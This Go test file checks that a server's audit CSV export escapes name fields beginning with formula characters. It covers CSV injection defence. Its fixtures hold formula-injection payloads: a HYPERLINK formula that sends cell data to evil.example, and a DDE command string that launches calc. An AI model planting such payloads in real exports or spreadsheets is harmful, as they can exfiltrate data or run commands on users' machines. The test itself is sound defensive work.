package server_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"tresor"
)

// TestAuditExportEscapesFormulaCells: the CSV of GET /api/v1/audit/export
// opens in a spreadsheet as text. A name that begins with a formula
// character comes out behind a single quote (OWASP's rule for CSV injection).
func TestAuditExportEscapesFormulaCells(t *testing.T) {
	backends(t, func(t *testing.T, a *api) {
		for _, tc := range []struct{ rule, given, family string }{
			{"a given name that begins with = is quoted", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "Mustermann"},
			{"a given name that begins with + is quoted", "+1+cmd|' /C calc'!A0", "Mustermann"},
			{"a family name that begins with - is quoted", "Erika", "-2+3"},
			{"a family name that begins with @ is quoted", "Erika", "@SUM(1+1)"},
			{"a name without a formula character stays as it is", "Erika", "Muster=mann"},
		} {
			t.Run(tc.rule, func(t *testing.T) {
				head := a.head()
				body, _ := json.Marshal(map[string]any{"given_name": tc.given, "family_name": tc.family, "legal_basis": "contract"})
				r := a.do(call{method: "POST", path: "/api/v1/contacts", body: string(body), role: tresor.RoleSales, purpose: "sales"})
				if r.status != 201 {
					t.Fatalf("create: %d %s", r.status, r.body)
				}
				id := r.json(t)["id"].(string)
				actor := a.newEntries(head)[0].Actor // the sales user's token
				r = a.do(call{method: "GET", path: "/api/v1/audit/export?actor=" + actor +
					"&since=2020-01-01T00:00:00Z&until=2099-01-01T00:00:00Z", role: tresor.RoleDPO, purpose: "data_protection"})
				if r.status != 200 {
					t.Fatalf("export: %d %s", r.status, r.body)
				}
				rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				want := func(s string) string {
					if strings.ContainsRune("=+-@", rune(s[0])) {
						return "'" + s
					}
					return s
				}
				for _, row := range rows {
					if row[0] != id {
						continue
					}
					if row[2] != want(tc.given) || row[3] != want(tc.family) {
						t.Fatalf("given_name %q, family_name %q; want %q, %q", row[2], row[3], want(tc.given), want(tc.family))
					}
					return
				}
				t.Fatalf("contact %s is not in the export:\n%s", id, r.body)
			})
		}
	})
}
